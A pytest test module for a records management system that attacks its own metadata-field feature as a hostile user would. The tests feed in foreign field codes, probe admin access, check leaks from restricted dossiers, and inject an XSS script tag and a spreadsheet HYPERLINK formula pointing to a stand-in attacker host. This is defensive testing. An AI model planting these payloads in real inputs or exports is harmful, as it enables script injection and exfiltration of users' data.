"""The organisation's own metadata fields (PL6 III.7.c) attacked as a hostile user of another unit or organisation
would: another organisation's field code sent in a form or the API, an officer at the administrator's page, markup
and formula text in a label, a choice or a value, and a restricted dossier's values asked for by those who may not
read it. Each is refused or shown as text, and the state after is read back."""

from __future__ import annotations

import csv
import io

import pytest
from erms_browser import REGISTER_FORM, file_field, make_pdf
from openpyxl import load_workbook

from erms import supplementary
from erms.models import Dossier, RegisterEntry, SupplementaryField
from filing import dossiers
from tests.factories import another_agency, supplementary_field
from tests.web.test_api import caller
from tests.web.test_api_supplementary import changed
from tests.web.test_document_page import text_of
from tests.web.test_leak_review import restrict

SCRIPT = "<script>alert(1)</script>"
SECRET = "DA-BI-MAT-0917"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Mở")'


@pytest.fixture
def own(session, world):
    """The world's organisation's dossier field "Mã dự án" (committed)."""
    field = supplementary_field(session, world.org.id, "dossier", "ma_du_an", "Mã dự án")
    session.commit()
    return field


def test_another_organisations_field_code_is_unknown_in_the_form_and_the_api(
    app, client, token_of, session, world, store, now, make_dossier, own
):
    other = another_agency(session, world, store, now)
    supplementary_field(session, other.org.id, "dossier", "ma_rieng", "Mã riêng của cơ quan khác")
    supplementary_field(session, world.org.id, "document", "goi_thau", "Gói thầu")  # ours, but of documents
    dossier = make_dossier("open")
    session.commit()
    revision = dossier.revision
    client.login("officer1")
    form = {"revision": str(revision), "title": dossier.title, "start_date": "05/01/2026"}
    for name in ("ma_rieng", "goi_thau"):
        refused = client.post(f"/dossiers/{dossier.id}/edit", {**form, f"supplementary.{name}": "X-1"})
        assert refused.status_code == 422 and "Trường không xác định" in text_of(refused), name
        answer = changed(caller(app), token_of("officer1"), dossier.id, {"supplementary": {name: "X-1"}})
        assert answer.status_code == 422, name
        assert {"field": f"supplementary.{name}"} in [{"field": e["field"]} for e in answer.json["errors"]], name
    session.expire_all()
    kept = session.get_one(Dossier, dossier.id)
    assert (supplementary.values_of(kept), kept.revision) == ({}, revision)


def test_an_officer_neither_reads_nor_changes_the_fields(browsers, session, world, own):
    officer = browsers("officer1")
    assert officer.get(f"/admin/organisations/{world.org.id}/fields").status_code in (403, 404)
    assert officer.post(f"/admin/fields/{own.id}", {"label": "Đổi tên"}).status_code in (403, 404)
    assert officer.post(f"/admin/fields/{own.id}/offered", {"active": "no"}).status_code in (403, 404)
    session.expire_all()
    kept = session.get_one(SupplementaryField, own.id)
    assert (kept.label, kept.active) == ("Mã dự án", True)


def test_markup_in_a_label_a_choice_and_a_value_is_shown_as_text(browsers, session, world, make_dossier):
    admin = browsers("admin")
    added = admin.post(
        f"/admin/organisations/{world.org.id}/fields",
        {"label": SCRIPT, "applies_to": "dossier", "data_type": "choice", "choices": f"{SCRIPT}\nODA"},
    )
    assert added.status_code == 302
    field = session.query(SupplementaryField).one()
    assert field.name == "script_alert_1_script"  # the code keeps letters and digits only
    dossier = make_dossier("open")
    dossier.supplementary = supplementary.encode({field.name: SCRIPT})
    session.commit()
    pages = (
        admin.get(f"/admin/organisations/{world.org.id}/fields"),
        browsers("officer1").get(f"/dossiers/{dossier.id}"),
    )
    for page in pages:
        assert page.status_code == 200
        raw = page.get_data(as_text=True)
        assert SCRIPT not in raw and "&lt;script&gt;alert(1)&lt;/script&gt;" in raw


def test_a_restricted_dossiers_values_reach_only_its_readers(
    app, browsers, token_of, session, world, now, make_dossier, own
):
    dossier = make_dossier("open")
    dossiers.update_dossier(session, world.actor("officer1"), dossier.id, {"supplementary.ma_du_an": SECRET}, now=now)
    restrict(session, world, "officer1", dossier.id, None, now)
    session.commit()
    api = caller(app)
    for reader in ("registry", "archivist", "officer2"):  # none forms it in its unit, nor is named on it
        assert browsers(reader).get(f"/dossiers/{dossier.id}").status_code == 404, reader
        assert api("GET", f"/dossiers/{dossier.id}", token_of(reader)).status_code == 404, reader
        listed = api("GET", "/dossiers", token_of(reader)).get_data(as_text=True)
        assert SECRET not in listed, reader
    for reader in ("admin", "archivist"):  # who read the log: it names the field changed, never its value
        log = browsers(reader)
        assert SECRET not in text_of(log.get("/audit/?action=dossier.updated")), reader
        assert SECRET not in log.get("/audit/export.csv").get_data(as_text=True), reader
    assert SECRET in text_of(browsers("unithead").get(f"/dossiers/{dossier.id}"))


def test_formula_text_in_a_value_opens_as_text_in_the_audit_exports(browsers, session, world, now, make_dossier):
    supplementary_field(session, world.org.id, "document", "goi_thau", "Gói thầu")
    dossier = make_dossier("open")
    document_id = dossier.links[0].document_id
    value = {"supplementary.goi_thau": FORMULA}
    dossiers.update_document(session, world.actor("officer1"), dossier.id, document_id, value, now=now)
    session.commit()
    head = browsers("head")
    rows = list(csv.reader(io.StringIO(head.get("/audit/export.csv").data.decode("utf-8-sig"))))
    book = load_workbook(io.BytesIO(head.get("/audit/export.xlsx").data))
    cells = [cell for row in rows for cell in row] + [
        str(cell.value) for row in book.active.iter_rows() for cell in row if cell.value is not None
    ]
    assert any("HYPERLINK" in cell for cell in cells)  # the value is in the log, as the head may read it
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_another_organisations_field_code_is_said_unknown_when_registering_and_opening(
    browsers, session, world, store, now, own
):
    other = another_agency(session, world, store, now)
    supplementary_field(session, other.org.id, "document", "ma_rieng", "Mã riêng của cơ quan khác")
    entry = world.approved_list(entries=1).entries[0]
    session.commit()
    form = {**REGISTER_FORM, "supplementary.ma_rieng": "X-1", "file": file_field(make_pdf(), "cv.pdf")}
    refused = browsers("registry").post("/registers/incoming", form)
    assert refused.status_code == 422 and "Trường không xác định" in text_of(refused)
    data = {"title": entry.title, "start_date": "05/01/2026", "rights": "public", "language": "Tiếng Việt"}
    refused = browsers("officer1").post(f"/dossiers/open/{entry.id}", {**data, "supplementary.ma_rieng": "X-1"})
    assert refused.status_code == 422 and "Trường không xác định" in text_of(refused)
    session.expire_all()
    assert session.query(RegisterEntry).count() == 0 and session.query(Dossier).count() == 1  # other's only
